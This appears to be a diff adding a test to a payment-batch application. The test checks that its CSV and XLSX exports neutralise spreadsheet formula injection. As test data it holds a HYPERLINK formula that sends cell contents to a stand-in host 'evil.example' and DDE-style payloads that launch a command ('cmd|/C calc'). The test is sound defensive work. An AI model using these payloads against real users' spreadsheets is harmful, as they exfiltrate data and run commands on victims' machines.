@@ -643,5 +643,53 @@ describe('payment batches', function () {
       expect(total![7]).to.equal('Ba triệu bảy trăm năm mươi nghìn đồng');
       expect(values.filter((v) => String(v[1]).startsWith('Cộng '))).to.have.length(2); // one subtotal per ward
     });
+
+    it('writes account names and review reasons that a spreadsheet would run as formulas as text, in the CSV and the XLSX', async () => {
+      const prog = await makeProgramme();
+      const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")';
+      await enrol(prog.id, { area: '00001', fullName: '-Nguyễn Văn Âm', accountName: hyperlink });
+      await enrol(prog.id, { area: '00001' });
+      await enrol(prog.id, { area: '00001' });
+      const b = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('001') });
+      const items = await allItems(c.staff.token, b.id);
+      const held = items.find((i: any) => i.accountName !== hyperlink)!;
+      const excluded = items.find((i: any) => i.accountName !== hyperlink && i.seq !== held.seq)!;
+      for (const [action, seq, reason] of [
+        ['hold', held.seq, '+cmd|/C calc!A0'],
+        ['exclude', excluded.seq, '@SUM(1+1)*cmd|/C calc!A0'],
+      ] as const) {
+        const r = await post(`/batches/${b.id}/items/review`, { action, seqs: [seq], reason }, c.staff.token);
+        expect(r.status, JSON.stringify(r.body)).to.equal(200);
+      }
+
+      const csv = await call('GET', `/api/v1/batches/${b.id}/items/export.csv`, { token: c.auditor.token });
+      expect(csv.status).to.equal(200);
+      const rows = parse(csv.text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
+      const bySeq = new Map(rows.map((r) => [Number(r.seq), r]));
+      const odd = rows.find((r) => r.accountName!.includes('HYPERLINK'))!;
+      expect(odd).to.include({ accountName: `'${hyperlink}`, fullName: "'-Nguyễn Văn Âm", amount: '750000' });
+      expect(bySeq.get(held.seq)!.reviewReason).to.equal("'+cmd|/C calc!A0");
+      expect(bySeq.get(excluded.seq)!.reviewReason).to.equal("'@SUM(1+1)*cmd|/C calc!A0");
+      for (const r of rows) {
+        for (const [col, v] of Object.entries(r)) expect(v, `${col} of item ${r.seq}`).not.to.match(/^[=+\-@\t\r]/);
+      }
+
+      const { url } = await testApp();
+      const res = await fetch(`${url}/api/v1/batches/${b.id}/items/export.xlsx`, {
+        headers: { authorization: `Bearer ${c.auditor.token}` },
+      });
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
+      const names: unknown[] = [];
+      wb.worksheets[0]!.eachRow((r) => {
+        const v = (r.values as unknown[]).slice(1);
+        if (typeof v[0] === 'number') {
+          names.push(v[1]);
+          expect(v[6], 'amount stays a number').to.equal(750_000);
+        }
+      });
+      expect(names).to.include("'-Nguyễn Văn Âm");
+      expect(names).not.to.include('-Nguyễn Văn Âm');
+    });
   });
 });
